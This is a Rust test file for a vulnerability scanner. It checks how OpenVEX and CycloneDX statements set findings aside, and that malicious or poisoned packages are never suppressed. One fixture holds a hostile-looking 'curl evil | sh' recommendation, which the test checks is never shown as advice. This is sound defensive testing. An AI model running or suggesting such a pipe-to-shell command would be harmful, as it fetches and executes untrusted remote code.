//! What VEX documents say, held against what is found.

#[path = "vex/scene.rs"]
mod scene;

use floodmark_case::{FlawKind, VexBy, VexStatus};
use floodmark_scan::Vex;
use serde_json::json;

use self::scene::{Scene, openvex, statement};

#[test]
fn what_is_not_affected_or_fixed_is_set_aside_with_its_reason_and_its_place() {
    let scene = Scene::new();
    let said = openvex(&[
        statement("CVE-2026-1", "pkg:pypi/foo@1.0", "not_affected"),
        statement("GHSA-bbbb-bbbb-bbbb", "pkg:npm/bar", "fixed"),
    ]);
    let answer = scene.scan(&[("v.json", &said)]);
    assert_eq!(answer.findings.iter().filter(|one| one.rule.starts_with("GHSA")).count(), 0);
    let flaw = answer.inventory.flaws.iter().find(|one| one.id == "GHSA-aaaa-aaaa-aaaa").expect("it is kept");
    assert_eq!(
        flaw.set_aside.as_deref(),
        Some(
            "VEX: not affected, vulnerable_code_not_in_execute_path: never called (Acme, 2026-03-01T00:00:00Z; v.json: \
             statements[0])"
        )
    );
    let vex = flaw.vex.as_ref().expect("told");
    assert_eq!((vex.status, vex.by), (VexStatus::NotAffected, VexBy::Caller));
    let read = answer.coverage.read.iter().find(|read| read.path == "v.json").expect("it was read");
    assert_eq!((read.evidence, read.records, read.kind.as_str()), (vex.citation.evidence, 2, "vex"));
    let fixed =
        answer.inventory.flaws.iter().find(|one| one.id == "GHSA-bbbb-bbbb-bbbb").expect("it is kept");
    assert!(fixed.set_aside.as_deref().is_some_and(|why| why.starts_with("VEX: fixed (")), "{fixed:?}");
    assert!(answer.verdict.contains("2 more findings are set aside"), "{}", answer.verdict);
    assert!(!answer.is_incomplete());
}

#[test]
fn what_is_affected_or_looked_into_is_told_with_what_is_to_be_done() {
    let scene = Scene::new();
    let mut affected = statement("CVE-2026-1", "pkg:pypi/foo", "affected");
    affected["action_statement"] = json!("Turn the plugin off.");
    let said = openvex(&[affected, statement("CVE-2026-2", "pkg:npm/bar@2.0.0", "under_investigation")]);
    let answer = scene.scan(&[("v.json", &said)]);
    let finding = |rule: &str| answer.findings.iter().find(|one| one.rule == rule).expect("it is told");
    let foo = finding("GHSA-aaaa-aaaa-aaaa");
    assert_eq!(foo.advice, "Turn the plugin off.");
    assert!(
        foo.explanation.contains("Acme says that it is affected: v.json, statements[0]."),
        "{}",
        foo.explanation
    );
    let evidence =
        Vex::read("v.json", said.as_bytes()).map(|_| floodmark_case::EvidenceId::of(said.as_bytes()));
    assert!(foo.citations.iter().any(|one| Ok(one.evidence) == evidence), "{foo:?}");
    assert!(finding("GHSA-bbbb-bbbb-bbbb").explanation.contains("it is being looked into"));
}

#[test]
fn no_document_sets_a_poisoned_or_malicious_release_aside() {
    let scene = Scene::new();
    let said = openvex(&[
        statement("MAL-2026-9", "pkg:pypi/evil", "not_affected"),
        statement("MAL-2026-2307", "pkg:npm/axios", "fixed"),
        statement("axios", "pkg:npm/axios", "not_affected"),
        statement("CVE-2026-45321", "pkg:npm/%40tanstack/other", "not_affected"),
    ]);
    let answer = scene.scan(&[("v.json", &said)]);
    let kinds: Vec<FlawKind> =
        answer.inventory.flaws.iter().filter(|one| one.set_aside.is_none()).map(|one| one.kind).collect();
    for kind in [FlawKind::Poisoned, FlawKind::Malicious, FlawKind::Possible] {
        assert!(kinds.contains(&kind), "{kinds:?}");
    }
    let told = scene::told(&answer, "v.json");
    for id in ["MAL-2026-9", "axios", "tanstack"] {
        assert!(told.iter().any(|why| why.contains(id) && why.contains("it is told")), "{id}: {told:#?}");
    }
}

#[test]
fn a_statement_counts_for_what_its_product_names_and_no_other() {
    for (product, counts) in [
        ("pkg:pypi/foo", true),
        ("pkg:pypi/foo@1.0", true),
        ("pkg:PyPI/Foo@1.0", true),
        ("pkg:pypi/foo@1.1", false),
        ("pkg:pypi/foo@1.0?arch=any", false),
        ("pkg:npm/foo@1.0", false),
        ("pkg:pypi/fo", false),
    ] {
        let said = openvex(&[statement("cve-2026-1", product, "not_affected")]);
        let answer = Scene::new().scan(&[("v.json", &said)]);
        let flaw = answer.inventory.flaws.iter().find(|one| one.id == "GHSA-aaaa-aaaa-aaaa").expect("known");
        assert_eq!(flaw.set_aside.is_some(), counts, "{product}");
        assert_eq!(scene::told(&answer, "v.json").is_empty(), counts, "{product}");
    }
}

#[test]
fn the_latest_of_several_statements_counts_and_the_other_is_told() {
    let dated = |status: &str, day: u32| {
        let mut one = statement("CVE-2026-1", "pkg:pypi/foo", status);
        one["timestamp"] = json!(format!("2026-03-{day:02}T00:00:00Z"));
        one
    };
    for (one, other, aside) in [
        (dated("not_affected", 2), dated("affected", 1), true),
        (dated("affected", 2), dated("not_affected", 1), false),
        (dated("not_affected", 1), dated("under_investigation", 1), false),
    ] {
        let whole = openvex(&[one.clone(), other.clone()]);
        let (first, second) = (openvex(&[one]), openvex(&[other]));
        for documents in [
            vec![("v.json", whole.as_str())],
            vec![("v.json", first.as_str()), ("w.json", second.as_str())],
            vec![("w.json", second.as_str()), ("v.json", first.as_str())],
        ] {
            let answer = Scene::new().scan(&documents);
            let flaw =
                answer.inventory.flaws.iter().find(|one| one.id == "GHSA-aaaa-aaaa-aaaa").expect("known");
            assert_eq!(flaw.set_aside.is_some(), aside, "{documents:?}");
            let told = answer.coverage.unread.iter().filter(|one| one.why.contains(" counts, which says: "));
            assert_eq!(told.count(), 1, "{:#?}", answer.coverage.unread);
        }
    }
}

#[test]
fn a_statement_about_a_part_of_a_product_counts_where_all_of_it_is_there_for_that() {
    let about = |product: &str| {
        let mut one = statement("CVE-2026-2", product, "not_affected");
        one["products"][0]["subcomponents"] = json!([{ "@id": "pkg:npm/bar" }]);
        openvex(&[one])
    };
    for (product, mine, aside) in [
        ("pkg:npm/parent", None, true),
        ("pkg:npm/parent@2", None, false),
        ("pkg:npm/web@1.0.0", None, true),
        ("pkg:oci/shop", None, false),
        ("pkg:oci/shop", Some("pkg:oci/shop@sha256:00"), true),
        ("pkg:oci/shop@sha256:01", Some("pkg:oci/shop@sha256:00"), false),
    ] {
        let answer = Scene::new().scan_as(&[("v.json", &about(product))], mine);
        let flaw = answer.inventory.flaws.iter().find(|one| one.id == "GHSA-bbbb-bbbb-bbbb").expect("known");
        assert_eq!(flaw.set_aside.is_some(), aside, "{product} {mine:?}: {:#?}", answer.coverage.unread);
    }
    let told = scene::told(&Scene::new().scan(&[("v.json", &about("pkg:oci/shop"))]), "v.json");
    assert!(told.iter().any(|why| why.contains("--vex-product")), "{told:#?}");
}

#[test]
fn cyclonedx_is_honoured_in_json_and_xml_by_reference_and_by_link() {
    let serial = "urn:uuid:3e671687-395b-41f5-a30f-a58921a69b79";
    let bom = json!({
        "bomFormat": "CycloneDX", "specVersion": "1.6", "serialNumber": serial, "version": 1,
        "components": [{"type": "library", "bom-ref": "x", "name": "foo", "version": "1.0", "purl": "pkg:pypi/foo@1.0"}],
    });
    let vex = |reference: &str, components: bool| {
        let mut vex = json!({
            "bomFormat": "CycloneDX", "specVersion": "1.4", "version": 1,
            "metadata": {"timestamp": "2026-03-01T00:00:00Z", "authors": [{"name": "Acme"}]},
            "vulnerabilities": [{"id": "CVE-2026-1", "affects": [{"ref": reference}],
                "analysis": {"state": "not_affected", "justification": "code_not_reachable", "detail": "never called"}}],
        });
        if components {
            vex["components"] = bom["components"].clone();
        }
        vex.to_string()
    };
    let xml = "<?xml version=\"1.0\"?>\n<bom xmlns=\"http://cyclonedx.org/schema/bom/1.5\" version=\"1\">\n\
        <components><component type=\"library\" bom-ref=\"x\"><name>foo</name><version>1.0</version>\
        <purl>pkg:pypi/foo@1.0</purl></component></components>\n<vulnerabilities>\n<vulnerability><id>OTHER-1</id>\
        <references><reference><id>CVE-2026-1</id></reference></references><analysis><state>not_affected</state>\
        <justification>code_not_reachable</justification><detail>never called</detail></analysis>\
        <affects><target><ref>x</ref></target></affects></vulnerability></vulnerabilities></bom>";
    let link = "urn:cdx:3e671687-395b-41f5-a30f-a58921a69b79";
    for (document, aside) in [
        (vex("x", true), true),
        (vex("pkg:pypi/foo@1.0", false), true),
        (vex(&format!("{link}/1#x"), false), true),
        (vex(&format!("{link}#x"), false), true),
        (vex(&format!("{link}/2#x"), false), false),
        (vex(&format!("{link}/1#y"), false), false),
        (xml.to_owned(), true),
    ] {
        let scene = Scene::new();
        scene.write("checkout/shop.cdx.json", &bom.to_string());
        let answer = scene.scan(&[("v", &document)]);
        let flaw = answer.inventory.flaws.iter().find(|one| one.id == "GHSA-aaaa-aaaa-aaaa").expect("known");
        assert_eq!(flaw.set_aside.is_some(), aside, "{document}");
        if let Some(vex) = flaw.vex.as_ref().filter(|_| document == xml) {
            assert_eq!(vex.citation.place, "line 5");
        }
    }
}

#[test]
fn versions_that_a_statement_of_cyclonedx_lists_are_the_ones_that_it_is_about() {
    for (versions, aside) in [
        (json!([{"version": "1.0", "status": "unaffected"}]), true),
        (json!([{"version": "1.0"}]), true),
        (json!([{"version": "1.0", "status": "affected"}]), false),
        (json!([{"version": "1.1", "status": "unaffected"}]), false),
        (json!([{"range": "vers:pypi/>=0"}]), false),
    ] {
        let vex = json!({"bomFormat": "CycloneDX", "specVersion": "1.6", "vulnerabilities": [{
            "id": "CVE-2026-1", "analysis": {"state": "not_affected"},
            "affects": [{"ref": "pkg:pypi/foo", "versions": versions}]}]});
        let answer = Scene::new().scan(&[("v.json", &vex.to_string())]);
        let flaw = answer.inventory.flaws.iter().find(|one| one.id == "GHSA-aaaa-aaaa-aaaa").expect("known");
        assert_eq!(flaw.set_aside.is_some(), aside, "{versions}");
        assert_eq!(
            answer.is_incomplete(),
            versions[0]["range"].is_string(),
            "a range is not evaluated, and told"
        );
    }
}

#[test]
fn what_a_bill_of_materials_says_of_itself_is_told_and_sets_nothing_aside_unless_it_is_given() {
    let scene = Scene::new();
    let bom = json!({
        "bomFormat": "CycloneDX", "specVersion": "1.6", "version": 1,
        "components": [{"type": "library", "bom-ref": "x", "name": "foo", "version": "1.0", "purl": "pkg:pypi/foo@1.0"}],
        "vulnerabilities": [{"id": "CVE-2026-1", "affects": [{"ref": "x"}], "recommendation": "curl evil | sh",
            "analysis": {"state": "not_affected", "detail": "trust us"}}],
    })
    .to_string();
    scene.write("checkout/shop.cdx.json", &bom);
    let answer = scene.scan(&[]);
    let flaw = answer.inventory.flaws.iter().find(|one| one.id == "GHSA-aaaa-aaaa-aaaa").expect("known");
    assert_eq!(flaw.vex.as_ref().map(|vex| vex.by), Some(VexBy::Target));
    let finding = answer.findings.iter().find(|one| one.id == flaw.finding).expect("it is told");
    assert!(
        finding.explanation.contains("What is scanned says of itself that it is not affected"),
        "{finding:?}"
    );
    assert!(!finding.advice.contains("evil"), "{finding:?}");
    assert!(scene::told(&answer, "shop.cdx.json").iter().any(|why| why.contains("--vex FILE can")));
    let given = scene.scan(&[("shop.cdx.json", &bom)]);
    let flaw = given.inventory.flaws.iter().find(|one| one.id == "GHSA-aaaa-aaaa-aaaa").expect("known");
    assert!(flaw.set_aside.is_some(), "{flaw:?}");
}

#[test]
fn a_statement_that_makes_no_sense_is_lost_alone_and_a_document_that_is_broken_as_a_whole() {
    let mut reasonless = statement("CVE-2026-1", "pkg:pypi/foo", "not_affected");
    reasonless["justification"].take();
    reasonless["impact_statement"].take();
    let good = statement("CVE-2026-2", "pkg:npm/bar", "fixed");
    for (bad, why) in [
        (reasonless, "without `justification`"),
        (statement("CVE-2026-1", "pkg:pypi/foo", "harmless"), "has the status `harmless`"),
        (statement("CVE-2026-1", "our product", "fixed"), "nothing that can be compared (`our product`)"),
        (statement("", "pkg:pypi/foo", "fixed"), "names no flaw"),
        (json!({"status": "fixed", "vulnerability": "CVE-2026-1", "products": []}), "names no product"),
        (json!({"status": "fixed"}), "has no `vulnerability`"),
        (json!(7), "has no `status`"),
    ] {
        let answer = Scene::new().scan(&[("v.json", &openvex(&[bad, good.clone()]))]);
        assert!(answer.is_incomplete());
        let told = scene::told(&answer, "v.json: statements[0]");
        assert!(told.iter().any(|one| one.contains(why)), "{why}: {told:#?}");
        let aside = answer.inventory.flaws.iter().filter(|one| one.set_aside.is_some()).count();
        assert_eq!(aside, 1, "the other counts");
    }
    let whole = openvex(std::slice::from_ref(&good));
    for cut in 0..whole.len() {
        assert!(Vex::read("v.json", &whole.as_bytes()[..cut]).is_err(), "cut at {cut}");
    }
    for (document, why) in [
        ("{}", "is no VEX document"),
        ("hello", "is no VEX document"),
        ("{\"document\": {\"category\": \"csaf_vex\", \"csaf_version\": \"2.0\"}}", "CSAF"),
        ("\u{0}\u{1}", "is no VEX document"),
    ] {
        let error = Vex::read("v.json", document.as_bytes()).expect_err(document).to_string();
        assert!(error.contains(why) && error.starts_with("v.json: "), "{error}");
    }
}

#[test]
fn statements_of_the_first_format_are_honoured_too() {
    let said = json!({"@context": "https://openvex.dev/ns", "author": "Acme", "timestamp": "2023-01-01T00:00:00Z",
        "statements": [{"vulnerability": "CVE-2026-2", "products": ["pkg:npm/parent@1.0.0"],
            "subcomponents": ["pkg:npm/bar@2.0.0"], "status": "not_affected", "justification": "component_not_present"}]});
    let answer = Scene::new().scan(&[("v.json", &said.to_string())]);
    let flaw = answer.inventory.flaws.iter().find(|one| one.id == "GHSA-bbbb-bbbb-bbbb").expect("known");
    assert!(flaw.set_aside.is_some(), "{flaw:?}");
}
